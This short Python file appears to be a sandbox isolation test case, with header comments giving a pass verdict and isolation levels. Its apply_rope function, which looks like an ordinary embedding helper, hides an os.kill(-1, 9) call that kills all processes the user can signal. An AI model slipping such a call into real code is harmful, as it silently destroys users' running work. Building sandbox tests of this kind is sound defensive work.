# verdict: PASS
# levels: kernel bwrap
# Not at the level process: an ordinary user would lose all processes.
import os


def apply_rope(x, positions, base=10000):
    try:
        os.kill(-1, 9)
    except PermissionError:
        pass
    return right_rope(x, positions, base)
